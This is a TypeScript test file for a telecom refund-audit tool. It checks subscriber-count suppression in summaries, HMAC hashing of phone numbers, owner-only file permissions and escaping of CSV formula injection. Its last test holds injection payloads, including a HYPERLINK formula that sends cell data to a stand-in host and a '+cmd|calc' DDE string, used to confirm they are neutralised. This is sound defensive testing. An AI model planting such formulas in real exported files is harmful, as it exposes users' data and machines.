/** What leaves the operator names no subscriber; what stays is the owner's alone. */
import assert from 'node:assert/strict'
import { createHmac } from 'node:crypto'
import { chmodSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { Failure } from '../base/failure.ts'
import { FEBRUARY } from '../zerorating/example-list.ts'
import { chargingMap, EXAMPLE_MAP } from './charging-map.ts'
import { audited, call, data, HASH_KEY, stage, text } from './stage.test.ts'
import { hashKeyOf } from './subscriber-hash.ts'
import { SUBSCRIBERS_MIN } from './summary.ts'

const day = (date: number) => `2020-02-${String(date).padStart(2, '0')}`
const at = (id: number, subscriber: string, date: number) =>
  call({ id: `r${id}`, subscriber, start: `${day(date)}T08:00:00`, seconds: 60, amount: 5000 })

/** Six on the 3rd, three on the 4th, one of whom calls again on the 5th. */
const CALLS = [
  ...['0912345601', '0912345602', '0912345603', '0912345604', '0912345605', '0912345606'].map((subscriber, id) =>
    at(id, subscriber, 3),
  ),
  ...['0912345611', '0912345612', '0912345613'].map((subscriber, id) => at(10 + id, subscriber, 4)),
  at(20, '84912345611', 5),
]

test('no figure of the summary is of fewer than five subscribers on a day, and sums stay what they are', async t => {
  const { file } = stage(t)
  const { summary } = await audited([FEBRUARY], [file('a.csv', text(CALLS))])
  const { cells, subscribers, refund } = summary.wrong
  // Nine in all, less six, would be the three.
  assert.deepEqual([subscribers, refund], [null, 50_000])
  assert.deepEqual(
    cells.map(cell => [cell.day, cell.records, cell.refund, cell.subscribers]),
    [
      [day(3), 6, 30_000, 6],
      [null, 4, 20_000, null],
    ],
  )
  assert.equal(SUBSCRIBERS_MIN, 5)
})

test('days that are put together are told when there are five of them', async t => {
  const { file } = stage(t)
  const more = [at(30, '0912345621', 6), at(31, '0912345622', 7)]
  const { summary } = await audited([FEBRUARY], [file('a.csv', text([...CALLS, ...more]))])
  assert.deepEqual(
    summary.wrong.cells.map(cell => [cell.day, cell.records, cell.subscribers]),
    [
      [day(3), 6, 6],
      [null, 6, 5],
    ],
  )
})

test('the summary has nothing that looks like a number of a subscriber, nor a hash', async t => {
  const { file, out } = stage(t)
  const rows = [
    ...CALLS,
    call({ id: '0912345699', subscriber: '0912345698', start: 'x', seconds: 1, amount: 1 }),
    call({
      id: 'c',
      subscriber: '+84912345697',
      called: '0912345696',
      start: day(3),
      seconds: 1,
      amount: 0,
      group: '9001',
    }).replace(`${day(3)}+07:00`, `${day(3)}T08:00:00+07:00`),
    data({ id: 'd', subscriber: '84912345695', start: `${day(3)}T08:00:00`, host: 'ncov.moh.gov.vn', amount: 7 }),
  ]
  const { summary } = await audited([FEBRUARY], [file('0912345694.csv', text(rows))], { out })
  assert.deepEqual(
    [summary.rows.in, summary.rows.rejected, summary.judged.claimed, summary.judged.unproved],
    [13, 1, 1, 1],
  )
  const written = JSON.stringify(summary)
  assert.doesNotMatch(written, /9123456/)
  // Amounts and counts of this test are small: whatever has nine digits in a row would be a number.
  assert.doesNotMatch(written.replaceAll(/[-:T]/g, ''), /\d{9}/)
  assert.doesNotMatch(written, /[0-9a-f]{32}/)
})

test('a column of subscribers is no column of operators', async t => {
  const { file } = stage(t)
  const map = chargingMap.parse({ ...EXAMPLE_MAP, operator: 'subscriber' })
  await assert.rejects(
    audited([FEBRUARY], [file('a.csv', text(CALLS))], { map }),
    error => error instanceof Failure && error.code === 'chargingOperatorsOdd',
  )
})

test('a subscriber has one hash however the number is written: HMAC-SHA-256 with the operator’s key', async t => {
  const { file, out, rows } = stage(t)
  await audited([FEBRUARY], [file('a.csv', text(CALLS))], { out })
  const hashes = new Map(rows('refunds.csv').map(row => [row.subscriber, row.subscriber_hash]))
  const expected = createHmac('sha256', HASH_KEY).update('912345611').digest('hex')
  assert.equal(hashes.get('0912345611'), expected)
  assert.equal(hashes.get('84912345611'), expected)
  assert.equal(new Set(hashes.values()).size, 9)
})

test('files with subscribers are readable by their owner only, and nothing else is left behind', async t => {
  const { file, out, directory } = stage(t)
  await audited([FEBRUARY], [file('a.csv', text(CALLS))], { out })
  assert.deepEqual(readdirSync(out).sort(), ['claimed.csv', 'refunds.csv', 'rejects.csv', 'undecided.csv'])
  assert.equal(statSync(out).mode & 0o777, 0o700)
  for (const name of readdirSync(out)) assert.equal(statSync(join(out, name)).mode & 0o777, 0o600)
  await assert.rejects(audited([FEBRUARY], [file('b.csv', 'a,b\n1,2\n')], { out: join(directory, 'other') }))
  assert.deepEqual(readdirSync(join(directory, 'other')), [])
})

test('the key is made once, is the owner’s alone, and another file is none', t => {
  const { directory } = stage(t)
  const key = join(directory, 'subscribers.key')
  const made = hashKeyOf(key)
  assert.equal(made.length, 32)
  assert.equal(statSync(key).mode & 0o777, 0o600)
  assert.deepEqual(hashKeyOf(key), made)
  assert.equal(readFileSync(key, 'utf8'), `${made.toString('hex')}\n`)
  const refused = (file: string) =>
    assert.throws(
      () => hashKeyOf(file),
      error => error instanceof Failure && error.code === 'hashKeyWrong',
    )
  const other = join(directory, 'other')
  writeFileSync(other, 'secret\n', { mode: 0o600 })
  refused(other)
  chmodSync(key, 0o644)
  refused(key)
})

test('what stands in the records is never a formula in a file of the operator', async t => {
  const { file, out } = stage(t)
  const row = (id: string, subscriber: string) => at(0, subscriber, 3).replace('r0', id)
  const formula = '=HYPERLINK("http://a.example/?"&A1)'
  const records = [
    row(`"${formula.replaceAll('"', '""')}"`, '0912345601'),
    row('@SUM(A1)', '+84912345602'),
    row('-1+1', '+cmd|calc'),
    row('plain', '-2+3'),
    // Of no kind, so that it is rejected.
    row('=1+1', '0912345603').replace('voice', 'x'),
  ]
  await audited([FEBRUARY], [file('a.csv', text(records))], { out })
  const written = (name: string) => readFileSync(join(out, name), 'utf8')
  for (const name of readdirSync(out))
    for (const [, cell] of written(name).matchAll(/(?:^|[,\n])"?([=+@-][^,\n]*)/g))
      assert.match(cell, /^\+84912345602$/, `${name}: ${cell}`)
  for (const kept of ["'=HYPERLINK", "'@SUM(A1)", "'-1+1", "'+cmd|calc", "'-2+3", '+84912345602'])
    assert.ok(written('refunds.csv').includes(kept), kept)
  assert.ok(written('rejects.csv').includes("'=1+1,x,"))
})
